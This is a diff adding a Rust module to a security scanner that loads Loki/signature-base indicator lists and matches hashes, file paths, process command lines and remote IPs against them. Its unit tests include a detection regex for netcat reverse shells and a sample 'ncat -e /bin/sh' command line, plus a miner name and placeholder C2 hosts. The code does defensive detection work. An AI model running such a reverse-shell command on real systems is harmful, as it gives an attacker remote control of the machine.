@@ -1,0 +1,525 @@
+//! Loki / signature-base indicator files.
+//!
+//! Which list a file holds is told by its name, as Loki does: a name containing `hash` is a hash
+//! list, `filename` a file-name list, `c2` a C2 list, `process` a process-name list and `cmdline`
+//! a command-line list. Formats, one indicator per line, `#` starts a comment:
+//!
+//! ```text
+//! hash      MD5|SHA1|SHA256;COMMENT
+//! filename  REGEX;SCORE[;FALSE_POSITIVE_REGEX]     matched against the full path
+//! c2        IP | CIDR | DOMAIN[;COMMENT]
+//! process   PROCESS_NAME_REGEX;SCORE[;COMMENT]
+//! cmdline   CMDLINE_REGEX;SCORE[;COMMENT]
+//! ```
+//!
+//! A line that does not parse is reported with file, line number and reason and the rest loads.
+//! Regexes the `regex` crate cannot take (look-around, back-references) are compiled with
+//! `fancy-regex`; only a regex neither accepts is reported.
+
+use std::collections::HashMap;
+use std::net::IpAddr;
+use std::path::Path;
+
+use crate::rules::{MatchKind, Problem, RuleMatch};
+
+/// Which list a file holds, from its name.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum IocKind {
+    Hash,
+    Filename,
+    C2,
+    ProcessName,
+    Cmdline,
+}
+
+impl IocKind {
+    pub fn of_path(path: &Path) -> Option<IocKind> {
+        let name = path.file_name()?.to_string_lossy().to_lowercase();
+        if name.contains("hash") {
+            Some(IocKind::Hash)
+        } else if name.contains("filename") {
+            Some(IocKind::Filename)
+        } else if name.contains("c2") {
+            Some(IocKind::C2)
+        } else if name.contains("cmdline") {
+            Some(IocKind::Cmdline)
+        } else if name.contains("process") {
+            Some(IocKind::ProcessName)
+        } else {
+            None
+        }
+    }
+}
+
+/// Counts per list kind: accepted and rejected lines.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct IocCounts {
+    pub hashes: usize,
+    pub filenames: usize,
+    pub filenames_fancy: usize,
+    pub c2_ips: usize,
+    pub c2_networks: usize,
+    pub c2_domains: usize,
+    pub process_names: usize,
+    pub cmdlines: usize,
+    pub rejected: usize,
+}
+
+/// One regex, in whichever engine accepts it.
+enum Re {
+    Std(regex::Regex),
+    Fancy(Box<fancy_regex::Regex>),
+}
+
+impl Re {
+    fn new(pattern: &str) -> Result<Re, String> {
+        match regex::RegexBuilder::new(pattern).size_limit(32 << 20).build() {
+            Ok(r) => Ok(Re::Std(r)),
+            Err(std_err) => match fancy_regex::Regex::new(pattern) {
+                Ok(r) => Ok(Re::Fancy(Box::new(r))),
+                Err(_) => Err(format!("regex does not compile: {}", first_line(&std_err.to_string()))),
+            },
+        }
+    }
+
+    fn is_match(&self, s: &str) -> bool {
+        match self {
+            Re::Std(r) => r.is_match(s),
+            // A backtracking limit hit counts as no match rather than an error.
+            Re::Fancy(r) => r.is_match(s).unwrap_or(false),
+        }
+    }
+
+    fn is_fancy(&self) -> bool {
+        matches!(self, Re::Fancy(_))
+    }
+}
+
+fn first_line(s: &str) -> &str {
+    s.lines().last().unwrap_or(s).trim()
+}
+
+struct Indicator {
+    re: Re,
+    fp: Option<Re>,
+    score: u32,
+    text: String,
+    source: String,
+}
+
+impl Indicator {
+    fn to_match(&self, kind: MatchKind) -> RuleMatch {
+        RuleMatch {
+            kind,
+            rule: self.text.clone(),
+            source: self.source.clone(),
+            score: self.score,
+            description: String::new(),
+            author: String::new(),
+            reference: String::new(),
+        }
+    }
+}
+
+struct HashIoc {
+    comment: String,
+    source: String,
+}
+
+/// Every loaded indicator, ready to match.
+#[derive(Default)]
+pub struct Iocs {
+    md5: HashMap<String, HashIoc>,
+    sha1: HashMap<String, HashIoc>,
+    sha256: HashMap<String, HashIoc>,
+    filenames: Vec<Indicator>,
+    /// Standard regexes of `filenames`, matched in one pass; indices into `filenames`.
+    filename_set: Option<(regex::RegexSet, Vec<usize>)>,
+    c2_ips: HashMap<IpAddr, (String, String)>,
+    c2_nets: Vec<(IpAddr, u8, String, String)>,
+    c2_domains: HashMap<String, (String, String)>,
+    process_names: Vec<Indicator>,
+    cmdlines: Vec<Indicator>,
+    pub counts: IocCounts,
+}
+
+/// Score given to hash and C2 indicators, which carry none.
+const FIXED_SCORE: u32 = 100;
+
+impl Iocs {
+    /// Parses one indicator file of the given kind; problems are appended to `problems`.
+    pub fn add_file(&mut self, kind: IocKind, origin: &Path, text: &str, problems: &mut Vec<Problem>) {
+        let name = origin
+            .file_name()
+            .map(|n| n.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        for (i, raw) in text.lines().enumerate() {
+            let line = raw.trim_end_matches('\r');
+            if line.trim().is_empty() || line.trim_start().starts_with('#') {
+                continue;
+            }
+            let source = format!("{name}:{}", i + 1);
+            let result = match kind {
+                IocKind::Hash => self.add_hash(line, source),
+                IocKind::Filename => self.add_filename(line, source),
+                IocKind::C2 => self.add_c2(line, source),
+                IocKind::ProcessName => parse_scored(line, source).map(|ind| {
+                    self.counts.process_names += 1;
+                    self.process_names.push(ind)
+                }),
+                IocKind::Cmdline => parse_scored(line, source).map(|ind| {
+                    self.counts.cmdlines += 1;
+                    self.cmdlines.push(ind)
+                }),
+            };
+            if let Err(reason) = result {
+                self.counts.rejected += 1;
+                problems.push(Problem {
+                    path: origin.to_owned(),
+                    line: Some(i + 1),
+                    reason,
+                });
+            }
+        }
+    }
+
+    fn add_hash(&mut self, line: &str, source: String) -> Result<(), String> {
+        let (hash, comment) = line.split_once(';').unwrap_or((line, ""));
+        let hash = hash.trim().to_ascii_lowercase();
+        if !hash.chars().all(|c| c.is_ascii_hexdigit()) {
+            return Err(format!("`{}` is not a hex digest", clip(&hash)));
+        }
+        let map = match hash.len() {
+            32 => &mut self.md5,
+            40 => &mut self.sha1,
+            64 => &mut self.sha256,
+            n => return Err(format!("a digest of {n} hex digits is neither MD5, SHA-1 nor SHA-256")),
+        };
+        map.insert(
+            hash,
+            HashIoc {
+                comment: comment.trim().to_string(),
+                source,
+            },
+        );
+        self.counts.hashes += 1;
+        Ok(())
+    }
+
+    fn add_filename(&mut self, line: &str, source: String) -> Result<(), String> {
+        let ind = parse_scored(line, source)?;
+        if ind.re.is_fancy() {
+            self.counts.filenames_fancy += 1;
+        }
+        self.counts.filenames += 1;
+        self.filenames.push(ind);
+        Ok(())
+    }
+
+    fn add_c2(&mut self, line: &str, source: String) -> Result<(), String> {
+        let (value, comment) = line.split_once(';').unwrap_or((line, ""));
+        let value = value.trim();
+        let entry = (value.to_string(), source);
+        let _ = comment;
+        if let Ok(ip) = value.parse::<IpAddr>() {
+            self.c2_ips.insert(ip, entry);
+            self.counts.c2_ips += 1;
+            return Ok(());
+        }
+        if let Some((net, bits)) = value.split_once('/') {
+            let ip: IpAddr = net
+                .parse()
+                .map_err(|_| format!("`{}` is not an IP network", clip(value)))?;
+            let bits: u8 = bits
+                .parse()
+                .map_err(|_| format!("`{}` has a bad prefix length", clip(value)))?;
+            let max = if ip.is_ipv4() { 32 } else { 128 };
+            if bits > max {
+                return Err(format!("`{}` has a prefix longer than {max}", clip(value)));
+            }
+            self.c2_nets.push((ip, bits, entry.0, entry.1));
+            self.counts.c2_networks += 1;
+            return Ok(());
+        }
+        if is_domain(value) {
+            self.c2_domains.insert(value.to_ascii_lowercase(), entry);
+            self.counts.c2_domains += 1;
+            return Ok(());
+        }
+        Err(format!("`{}` is neither an IP address, a network nor a domain", clip(value)))
+    }
+
+    /// Compiles the one-pass set of standard file-name regexes. Call once after loading.
+    pub fn finish(&mut self) {
+        let mut patterns = Vec::new();
+        let mut index = Vec::new();
+        for (i, ind) in self.filenames.iter().enumerate() {
+            if let Re::Std(r) = &ind.re {
+                patterns.push(r.as_str().to_string());
+                index.push(i);
+            }
+        }
+        if patterns.is_empty() {
+            return;
+        }
+        // Each pattern compiled alone above, so the set compiles unless it is too large; then
+        // the indicators are matched one by one instead.
+        if let Ok(set) = regex::RegexSetBuilder::new(&patterns)
+            .size_limit(256 << 20)
+            .dfa_size_limit(64 << 20)
+            .build()
+        {
+            self.filename_set = Some((set, index));
+        }
+    }
+
+    pub fn wants_md5(&self) -> bool {
+        !self.md5.is_empty()
+    }
+    pub fn wants_sha1(&self) -> bool {
+        !self.sha1.is_empty()
+    }
+    pub fn wants_sha256(&self) -> bool {
+        !self.sha256.is_empty()
+    }
+    pub fn has_filenames(&self) -> bool {
+        !self.filenames.is_empty()
+    }
+    pub fn has_process_indicators(&self) -> bool {
+        !self.process_names.is_empty() || !self.cmdlines.is_empty()
+    }
+    pub fn has_c2(&self) -> bool {
+        !self.c2_ips.is_empty() || !self.c2_nets.is_empty()
+    }
+
+    /// Hash indicators matching the given hex digests.
+    pub fn match_hashes(&self, md5: Option<&str>, sha1: Option<&str>, sha256: Option<&str>, out: &mut Vec<RuleMatch>) {
+        for (map, digest) in [(&self.md5, md5), (&self.sha1, sha1), (&self.sha256, sha256)] {
+            if let Some(h) = digest.and_then(|d| map.get(d).map(|h| (d, h))) {
+                out.push(RuleMatch {
+                    kind: MatchKind::Hash,
+                    rule: h.0.to_string(),
+                    source: h.1.source.clone(),
+                    score: FIXED_SCORE,
+                    description: h.1.comment.clone(),
+                    author: String::new(),
+                    reference: String::new(),
+                });
+            }
+        }
+    }
+
+    /// File-name indicators matching a path. Loki's lists are written for Windows paths, so the
+    /// path is also tried with `\` as separator.
+    pub fn match_path(&self, path: &str, out: &mut Vec<RuleMatch>) {
+        if self.filenames.is_empty() {
+            return;
+        }
+        let windows = path.replace('/', "\\");
+        let hit = |ind: &Indicator| {
+            (ind.re.is_match(path) || ind.re.is_match(&windows))
+                && !ind
+                    .fp
+                    .as_ref()
+                    .is_some_and(|fp| fp.is_match(path) || fp.is_match(&windows))
+        };
+        let mut candidates: Vec<usize> = match &self.filename_set {
+            Some((set, index)) => {
+                let mut v: Vec<usize> = set.matches(path).into_iter().map(|i| index[i]).collect();
+                v.extend(set.matches(&windows).into_iter().map(|i| index[i]));
+                v.extend(
+                    self.filenames
+                        .iter()
+                        .enumerate()
+                        .filter(|(_, ind)| ind.re.is_fancy())
+                        .map(|(i, _)| i),
+                );
+                v
+            }
+            None => (0..self.filenames.len()).collect(),
+        };
+        candidates.sort_unstable();
+        candidates.dedup();
+        for i in candidates {
+            let ind = &self.filenames[i];
+            if hit(ind) {
+                out.push(ind.to_match(MatchKind::Filename));
+            }
+        }
+    }
+
+    /// Process-name and command-line indicators matching a process.
+    pub fn match_process(&self, name: &str, cmdline: &str, out: &mut Vec<RuleMatch>) {
+        for ind in &self.process_names {
+            if ind.re.is_match(name) && !ind.fp.as_ref().is_some_and(|fp| fp.is_match(name)) {
+                out.push(ind.to_match(MatchKind::Process));
+            }
+        }
+        for ind in &self.cmdlines {
+            if ind.re.is_match(cmdline) && !ind.fp.as_ref().is_some_and(|fp| fp.is_match(cmdline)) {
+                out.push(ind.to_match(MatchKind::Process));
+            }
+        }
+    }
+
+    /// The C2 indicator a remote address matches, if any.
+    pub fn match_ip(&self, ip: IpAddr) -> Option<RuleMatch> {
+        let ip = match ip {
+            IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
+            v4 => v4,
+        };
+        let hit = self.c2_ips.get(&ip).cloned().or_else(|| {
+            self.c2_nets
+                .iter()
+                .find(|(net, bits, _, _)| in_network(ip, *net, *bits))
+                .map(|(_, _, text, source)| (text.clone(), source.clone()))
+        })?;
+        Some(RuleMatch {
+            kind: MatchKind::Connection,
+            rule: hit.0,
+            source: hit.1,
+            score: FIXED_SCORE,
+            description: String::new(),
+            author: String::new(),
+            reference: String::new(),
+        })
+    }
+}
+
+/// `REGEX;SCORE[;FALSE_POSITIVE_REGEX]`.
+fn parse_scored(line: &str, source: String) -> Result<Indicator, String> {
+    // The regex itself may contain `;`: the score is the first field after it that is a number.
+    let parts: Vec<&str> = line.split(';').collect();
+    let score_at = parts
+        .iter()
+        .enumerate()
+        .skip(1)
+        .find(|(_, p)| p.trim().parse::<u32>().is_ok())
+        .map(|(i, _)| i)
+        .ok_or_else(|| "no `;SCORE` field (expected REGEX;SCORE[;FALSE_POSITIVE_REGEX])".to_string())?;
+    let pattern = parts[..score_at].join(";");
+    if pattern.trim().is_empty() {
+        return Err("empty regex".into());
+    }
+    let score: u32 = parts[score_at].trim().parse().map_err(|_| "bad score".to_string())?;
+    let fp_text = parts[score_at + 1..].join(";");
+    let re = Re::new(&pattern)?;
+    let fp = if fp_text.trim().is_empty() {
+        None
+    } else {
+        Some(Re::new(&fp_text).map_err(|e| format!("false-positive {e}"))?)
+    };
+    Ok(Indicator {
+        re,
+        fp,
+        score: score.min(100),
+        text: pattern,
+        source,
+    })
+}
+
+fn is_domain(s: &str) -> bool {
+    s.contains('.')
+        && s.len() <= 253
+        && s.split('.').all(|label| {
+            !label.is_empty()
+                && label.len() <= 63
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+        })
+}
+
+fn in_network(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
+    match (ip, net) {
+        (IpAddr::V4(a), IpAddr::V4(n)) => {
+            let mask = if bits == 0 { 0 } else { u32::MAX << (32 - u32::from(bits)) };
+            u32::from(a) & mask == u32::from(n) & mask
+        }
+        (IpAddr::V6(a), IpAddr::V6(n)) => {
+            let mask = if bits == 0 { 0 } else { u128::MAX << (128 - u32::from(bits)) };
+            u128::from(a) & mask == u128::from(n) & mask
+        }
+        _ => false,
+    }
+}
+
+fn clip(s: &str) -> String {
+    s.chars().take(80).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn load(kind: IocKind, text: &str) -> (Iocs, Vec<Problem>) {
+        let mut iocs = Iocs::default();
+        let mut problems = Vec::new();
+        iocs.add_file(kind, Path::new("t.txt"), text, &mut problems);
+        iocs.finish();
+        (iocs, problems)
+    }
+
+    #[test]
+    fn bad_lines_are_reported_and_the_rest_loads() {
+        let (iocs, problems) = load(
+            IocKind::Hash,
+            "# comment\n\nd41d8cd98f00b204e9800998ecf8427e;empty\nnothex;x\nabc;short\n",
+        );
+        assert_eq!(iocs.counts.hashes, 1);
+        assert_eq!(problems.len(), 2);
+        assert_eq!(problems[0].line, Some(4));
+        assert_eq!(problems[1].line, Some(5));
+        assert!(problems[1].to_string().starts_with("t.txt:5: "), "{}", problems[1]);
+    }
+
+    #[test]
+    fn filename_regex_with_false_positive_and_look_around() {
+        let (iocs, problems) = load(
+            IocKind::Filename,
+            "\\\\procdump(64)?\\.exe;50;(?i)SysInternals\\\\\n/tmp/(?!safe)[a-z]+\\.elf;70\n(unclosed;60\n",
+        );
+        assert_eq!(problems.len(), 1, "{problems:?}");
+        assert_eq!(problems[0].line, Some(3));
+        assert_eq!(iocs.counts.filenames_fancy, 1);
+        let m = |p: &str| {
+            let mut v = Vec::new();
+            iocs.match_path(p, &mut v);
+            v.into_iter().map(|m| m.score).collect::<Vec<_>>()
+        };
+        assert_eq!(m("/opt/tools/procdump.exe"), vec![50]);
+        assert_eq!(m("/opt/SysInternals/procdump.exe"), Vec::<u32>::new());
+        assert_eq!(m("/tmp/evil.elf"), vec![70]);
+        assert_eq!(m("/tmp/safe.elf"), Vec::<u32>::new());
+    }
+
+    #[test]
+    fn c2_ips_networks_and_domains() {
+        let (iocs, problems) = load(IocKind::C2, "10.1.2.3\n192.0.2.0/24\nevil.example\nnot a host\n");
+        assert_eq!(problems.len(), 1);
+        assert_eq!(iocs.counts.c2_domains, 1);
+        assert!(iocs.match_ip("10.1.2.3".parse().unwrap()).is_some());
+        assert!(iocs.match_ip("::ffff:10.1.2.3".parse().unwrap()).is_some());
+        assert_eq!(iocs.match_ip("192.0.2.77".parse().unwrap()).unwrap().rule, "192.0.2.0/24");
+        assert!(iocs.match_ip("192.0.3.1".parse().unwrap()).is_none());
+    }
+
+    #[test]
+    fn process_names_and_command_lines() {
+        let (p, _) = load(IocKind::ProcessName, "^xmrig$;90\n");
+        let (c, _) = load(IocKind::Cmdline, "(?i)nc(at)? -e /bin/sh;80\n");
+        let mut v = Vec::new();
+        p.match_process("xmrig", "", &mut v);
+        c.match_process("bash", "ncat -e /bin/sh 1.2.3.4", &mut v);
+        c.match_process("bash", "ls", &mut v);
+        assert_eq!(v.iter().map(|m| m.score).collect::<Vec<_>>(), vec![90, 80]);
+    }
+
+    #[test]
+    fn list_kind_comes_from_the_file_name() {
+        assert_eq!(IocKind::of_path(Path::new("x/hash-iocs.txt")), Some(IocKind::Hash));
+        assert_eq!(IocKind::of_path(Path::new("filename-iocs.txt")), Some(IocKind::Filename));
+        assert_eq!(IocKind::of_path(Path::new("c2-iocs.txt")), Some(IocKind::C2));
+        assert_eq!(IocKind::of_path(Path::new("process-iocs.txt")), Some(IocKind::ProcessName));
+        assert_eq!(IocKind::of_path(Path::new("cmdline-iocs.txt")), Some(IocKind::Cmdline));
+        assert_eq!(IocKind::of_path(Path::new("keywords.txt")), None);
+    }
+}
